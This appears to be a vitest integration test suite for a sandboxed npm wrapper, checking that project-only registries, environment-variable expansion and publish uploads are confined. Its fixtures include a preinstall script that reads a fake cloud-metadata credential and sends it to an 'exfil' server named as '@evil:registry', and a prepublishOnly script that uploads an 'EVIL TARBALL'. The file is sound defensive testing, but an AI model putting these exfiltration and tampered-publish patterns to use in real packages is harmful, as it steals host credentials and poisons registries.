/**
 * How far the registry reaches, with the real CLI, real npm and logging servers on 127.0.0.1:
 *
 * - a registry only the project's `.npmrc` names is not dialled at an internal address: a
 *   cloned repository's `registry=http://127.0.0.1:…` must not make the host's loopback
 *   services (IMDS, `kubectl proxy`, local admin APIs) readable, nor a second one an exfil sink;
 *   the control names the same servers in the user's ~/.npmrc, and the same script reads them;
 * - the user's token goes with requests under the path its registry has, and with tarball reads,
 *   never to the server's own API on the same host (`/api/security/apiKey`);
 * - a publish uploads exactly to `<registry path>/<name>` with the package's own tarball: a
 *   prepublishOnly script cannot take the run's one upload to another path on the same host,
 *   nor put another tarball under the package's name.
 */
import { existsSync, readdirSync, readFileSync, writeFileSync } from "node:fs";
import { networkInterfaces } from "node:os";
import { join } from "node:path";
import { gunzipSync } from "node:zlib";
import { afterAll, beforeAll, describe, expect, inject, it } from "vitest";
import { httpServer, type TestServer } from "../../unit/network/helpers.js";
import { makeWorld, type RunResult, show, type World } from "../world.js";

const unavailable = inject("sandboxUnavailable");
const TOKEN = "USER-SECRET-TOKEN";
/**
 * A script run inside: each step is `[method, url, body?]`, sent through $HTTP_PROXY as an
 * absolute URI; the statuses and bodies land in `.probe/<name>.json`.
 */
const SCRIPT = `
const fs = require("node:fs");
const http = require("node:http");
const [name] = process.argv.slice(2);
const steps = JSON.parse(fs.readFileSync("steps.json", "utf8"));
const proxy = new URL(process.env.HTTP_PROXY);
const results = [];
const next = (i) => {
  if (i === steps.length) {
    fs.mkdirSync(".probe", { recursive: true });
    fs.writeFileSync(".probe/" + name + ".json", JSON.stringify(results));
    return;
  }
  const [method, url, body] = steps[i];
  const req = http.request(
    // agent: false: Node 24 proxies by itself under NODE_USE_ENV_PROXY and rejects a hand-made proxy request.
    { host: proxy.hostname, port: proxy.port, method, path: url, headers: body ? { "content-type": "application/json" } : {}, agent: false },
    (res) => {
      let text = "";
      res.on("data", (c) => (text += c));
      res.on("end", () => { results.push({ url, status: res.statusCode, body: text }); next(i + 1); });
    },
  );
  req.on("error", (e) => { results.push({ url, status: e.code }); next(i + 1); });
  req.end(body ?? "");
};
next(0);
`;

interface Result {
  url: string;
  status: number | string;
  body?: string;
}

function readResults(world: World, name: string): Result[] {
  const file = join(world.project, ".probe", `${name}.json`);
  return existsSync(file) ? (JSON.parse(readFileSync(file, "utf8")) as Result[]) : [];
}

const QUIET = "audit=false\nfund=false\nupdate-notifier=false\n";

describe.skipIf(unavailable !== "")(
  "a registry only the project names, at an internal address",
  () => {
    let meta: TestServer;
    let exfil: TestServer;
    const worlds: World[] = [];
    const metaPath = "/latest/meta-data/iam/security-credentials/role";

    beforeAll(async () => {
      meta = await httpServer((_req, res) => res.end('{"AccessKeyId":"AKIAHOSTROLE"}'));
      exfil = await httpServer((_req, res) => res.end("got it"));
    });
    afterAll(async () => {
      for (const w of worlds) w.dispose();
      await meta?.close();
      await exfil?.close();
    });

    /** A project whose preinstall reads the metadata, then sends it to the second server. */
    const attack = async (userNpmrc: string | null): Promise<{ world: World; run: RunResult }> => {
      const world = makeWorld({
        projectInHome: true,
        packageJson: { scripts: { preinstall: "node attack.cjs preinstall" } },
      });
      worlds.push(world);
      writeFileSync(join(world.project, "attack.cjs"), SCRIPT);
      const secret = Buffer.from("AKIAHOSTROLE").toString("base64url");
      writeFileSync(
        join(world.project, "steps.json"),
        JSON.stringify([
          ["GET", `http://127.0.0.1:${meta.port}${metaPath}`],
          ["GET", `http://127.0.0.1:${exfil.port}/exfil-${secret}`],
        ]),
      );
      writeFileSync(
        join(world.project, ".npmrc"),
        `registry=http://127.0.0.1:${meta.port}/\n@evil:registry=http://127.0.0.1:${exfil.port}/\n${QUIET}`,
      );
      if (userNpmrc !== null) writeFileSync(join(world.home, ".npmrc"), userNpmrc);
      const run = await world.run(["install"]);
      return { world, run };
    };

    it("is refused (403) for both, nothing reaches them, and the report names the file and the fixes", async () => {
      const metaBefore = meta.requests.length;
      const exfilBefore = exfil.requests.length;
      const { world, run } = await attack(null);
      const results = readResults(world, "preinstall");
      expect(
        results.map((r) => r.status),
        show(run),
      ).toEqual([403, 403]);
      expect(meta.requests.length).toBe(metaBefore);
      expect(exfil.requests.length).toBe(exfilBefore);
      expect(run.stderr).toContain(
        `refused 1 connection to 127.0.0.1:${meta.port}: only the project's files name this registry (project .npmrc registry)`,
      );
      expect(run.stderr).toContain(
        `refused 1 connection to 127.0.0.1:${exfil.port}: only the project's files name this registry (project .npmrc @evil:registry)`,
      );
      expect(run.stderr).toContain("name it in ~/.npmrc");
      expect(run.stderr).toContain(`--allow-host 127.0.0.1:${meta.port}`);
    }, 180_000);

    it("control: named in the user's ~/.npmrc too, the same script reads the metadata and sends it out", async () => {
      const { world, run } = await attack(
        `registry=http://127.0.0.1:${meta.port}/\n@evil:registry=http://127.0.0.1:${exfil.port}/\n${QUIET}`,
      );
      const results = readResults(world, "preinstall");
      expect(
        results.map((r) => r.status),
        show(run),
      ).toEqual([200, 200]);
      expect(results[0]?.body).toContain("AKIAHOSTROLE");
      expect(meta.requests.map((r) => r.url)).toContain(metaPath);
      expect(exfil.requests.some((r) => r.url.startsWith("/exfil-"))).toBe(true);
    }, 180_000);

    it("control: --allow-host for the one registry lifts it for that one only", async () => {
      const world = makeWorld({
        projectInHome: true,
        packageJson: { scripts: { preinstall: "node attack.cjs allow" } },
      });
      worlds.push(world);
      writeFileSync(join(world.project, "attack.cjs"), SCRIPT);
      writeFileSync(
        join(world.project, "steps.json"),
        JSON.stringify([
          ["GET", `http://127.0.0.1:${meta.port}${metaPath}`],
          ["GET", `http://127.0.0.1:${exfil.port}/exfil-x`],
        ]),
      );
      writeFileSync(
        join(world.project, ".npmrc"),
        `registry=http://127.0.0.1:${meta.port}/\n@evil:registry=http://127.0.0.1:${exfil.port}/\n${QUIET}`,
      );
      const run = await world.run([`--allow-host=127.0.0.1:${meta.port}`, "install"]);
      expect(
        readResults(world, "allow").map((r) => r.status),
        show(run),
      ).toEqual([200, 403]);
    }, 180_000);
  },
);

/** This machine's first IPv4 address that is not loopback (a service on 0.0.0.0 answers there). */
const hostAddress = Object.values(networkInterfaces())
  .flat()
  .find((i) => i !== undefined && !i.internal && i.family === "IPv4")?.address;
if (hostAddress === undefined) {
  console.warn("registry-bounds: no non-loopback IPv4 interface; the host-address case skips");
}

describe.skipIf(unavailable !== "" || hostAddress === undefined)(
  "a registry only the project names, at one of this host's own addresses",
  () => {
    let service: TestServer;
    const worlds: World[] = [];
    beforeAll(async () => {
      // Bound to every interface, as many local services are: it answers on the host's public
      // address too, which no fixed list of internal ranges knows.
      service = await httpServer((_req, res) => res.end("HOST-ONLY-SECRET"), "0.0.0.0");
    });
    afterAll(async () => {
      for (const w of worlds) w.dispose();
      await service?.close();
    });

    const attack = async (userNpmrc: string | null): Promise<{ world: World; run: RunResult }> => {
      const world = makeWorld({
        projectInHome: true,
        packageJson: { scripts: { preinstall: "node attack.cjs own" } },
      });
      worlds.push(world);
      const url = `http://${hostAddress}:${service.port}`;
      writeFileSync(join(world.project, "attack.cjs"), SCRIPT);
      writeFileSync(join(world.project, "steps.json"), JSON.stringify([["GET", `${url}/admin`]]));
      writeFileSync(join(world.project, ".npmrc"), `@evil:registry=${url}/\n${QUIET}`);
      if (userNpmrc !== null) writeFileSync(join(world.home, ".npmrc"), userNpmrc);
      return { world, run: await world.run(["install"]) };
    };

    it("is refused (403), and nothing reaches the service", async () => {
      const before = service.requests.length;
      const { world, run } = await attack(null);
      expect(
        readResults(world, "own").map((r) => r.status),
        show(run),
      ).toEqual([403]);
      expect(service.requests.length).toBe(before);
      expect(run.stderr).toContain(`refused 1 connection to ${hostAddress}:${service.port}`);
    }, 180_000);

    it("control: named in the user's ~/.npmrc, the same script reads the service", async () => {
      const { world, run } = await attack(
        `@evil:registry=http://${hostAddress}:${service.port}/\n${QUIET}`,
      );
      const results = readResults(world, "own");
      expect(
        results.map((r) => r.status),
        show(run),
      ).toEqual([200]);
      expect(results[0]?.body).toBe("HOST-ONLY-SECRET");
    }, 180_000);
  },
);

// biome-ignore lint/suspicious/noTemplateCurlyInString: `${VAR}` is npmrc syntax
describe.skipIf(unavailable !== "")("a ${VAR} in the project's registry URL", () => {
  const SECRET = "topsecretvalue123";
  const worlds: World[] = [];
  afterAll(() => {
    for (const w of worlds) w.dispose();
  });
  /** Everything the run left that names hosts: its output and the certificate cache. */
  const traces = async (userNpmrc: string | null): Promise<string> => {
    const world = makeWorld({ projectInHome: true });
    worlds.push(world);
    const line = `@x:registry=https://\${HOST_PART}.evil.invalid:4801/\n`;
    writeFileSync(join(world.project, ".npmrc"), `${line}${QUIET}`);
    if (userNpmrc !== null) writeFileSync(join(world.home, ".npmrc"), `${line}${userNpmrc}`);
    const run = await world.run(["--verbose", "install"], { env: { HOST_PART: SECRET } });
    const leaves = join(world.home, ".local", "state", "safe-npm", "ca", "leaves");
    const cached = existsSync(leaves) ? readdirSync(leaves).join("\n") : "";
    return `${run.stdout}\n${run.stderr}\n${cached}`;
  };

  it("is not expanded with the host's environment: the value is in no output and no cached certificate", async () => {
    expect(await traces(null)).not.toContain(SECRET);
  }, 180_000);

  it("control: the same line in the user's ~/.npmrc is expanded, and --verbose shows the host", async () => {
    expect(await traces(QUIET)).toContain(SECRET);
  }, 180_000);
});

describe.skipIf(unavailable !== "")(
  "the user's token and the one upload stay under the registry's path",
  () => {
    let registry: TestServer;
    let world: World;
    let install: RunResult;
    let publish: RunResult;
    const team = "/api/npm/team/";

    beforeAll(async () => {
      registry = await httpServer((req, res) => {
        res.setHeader("content-type", "application/json");
        if (req.method === "PUT") res.statusCode = 201;
        res.end("{}");
      });
      const base = `http://127.0.0.1:${registry.port}${team}`;
      world = makeWorld({
        projectInHome: true,
        packageJson: {
          name: "p2",
          version: "1.0.0",
          private: false,
          files: ["index.js"],
          scripts: {
            preinstall: "node attack.cjs preinstall",
            prepublishOnly: "node attack.cjs prepublish",
          },
        },
      });
      writeFileSync(join(world.project, "index.js"), "module.exports = 1;\n");
      writeFileSync(join(world.project, "attack.cjs"), SCRIPT);
      writeFileSync(join(world.project, ".npmrc"), QUIET);
      writeFileSync(
        join(world.home, ".npmrc"),
        `registry=${base}\n//127.0.0.1:${registry.port}${team}:_authToken=${TOKEN}\n${QUIET}`,
      );
      const doc = (tarball: string) =>
        JSON.stringify({
          _id: "p2",
          name: "p2",
          "dist-tags": { latest: "1.0.0" },
          versions: { "1.0.0": { name: "p2", version: "1.0.0", dist: {} } },
          _attachments: { "p2-1.0.0.tgz": { data: Buffer.from(tarball).toString("base64") } },
        });
      const origin = `http://127.0.0.1:${registry.port}`;
      writeFileSync(
        join(world.project, "steps.json"),
        JSON.stringify([
          // Install time: the server's own API, then a document under the registry's path.
          ["GET", `${origin}/api/security/apiKey`],
          ["GET", `${origin}${team}p2`],
        ]),
      );
      install = await world.run(["install"]);
      // Publish time: the upload to another path, then another tarball under the right one.
      writeFileSync(
        join(world.project, "steps.json"),
        JSON.stringify([
          ["PUT", `${origin}/somewhere/else/p2`, doc("EVIL TARBALL")],
          ["PUT", `${origin}${team}p2`, doc("EVIL TARBALL")],
        ]),
      );
      publish = await world.run(["npm", "publish"]);
    }, 300_000);
    afterAll(async () => {
      world?.dispose();
      await registry?.close();
    });

    const seen = (method: string, url: string) =>
      registry.requests.filter((r) => r.method === method && r.url === url);

    it("the server's own API on the registry's host gets no token; the registry's path does", () => {
      expect(install.exitCode, show(install)).toBe(0);
      expect(readResults(world, "preinstall").map((r) => r.status)).toEqual([200, 200]);
      const api = seen("GET", "/api/security/apiKey");
      expect(api).toHaveLength(1);
      expect(api[0]?.headers.authorization).toBeUndefined();
      // Control: under the registry's path the token is added (so it is held and would have gone).
      expect(seen("GET", `${team}p2`)[0]?.headers.authorization).toBe(`Bearer ${TOKEN}`);
    });

    it("prepublishOnly's uploads to another path and with another tarball are refused; npm's own goes through once", () => {
      expect(publish.exitCode, show(publish)).toBe(0);
      expect(readResults(world, "prepublish").map((r) => r.status)).toEqual([403, 403]);
      expect(seen("PUT", "/somewhere/else/p2")).toEqual([]);
      const puts = seen("PUT", `${team}p2`);
      expect(puts).toHaveLength(1);
      expect(puts[0]?.headers.authorization).toBe(`Bearer ${TOKEN}`);
      const body = JSON.parse(puts[0]?.body ?? "{}") as {
        _attachments: Record<string, { data: string }>;
      };
      const tgz = Buffer.from(Object.values(body._attachments)[0]?.data ?? "", "base64");
      expect(gunzipSync(tgz).toString("latin1")).toContain('"name": "p2"');
      expect(publish.stderr).toMatch(
        /PUT \/somewhere\/else\/p2 \(PUT \/somewhere\/else\/p2 is not the upload path of p2/,
      );
      expect(publish.stderr).toMatch(/whose tarball cannot be read/);
    });
  },
);
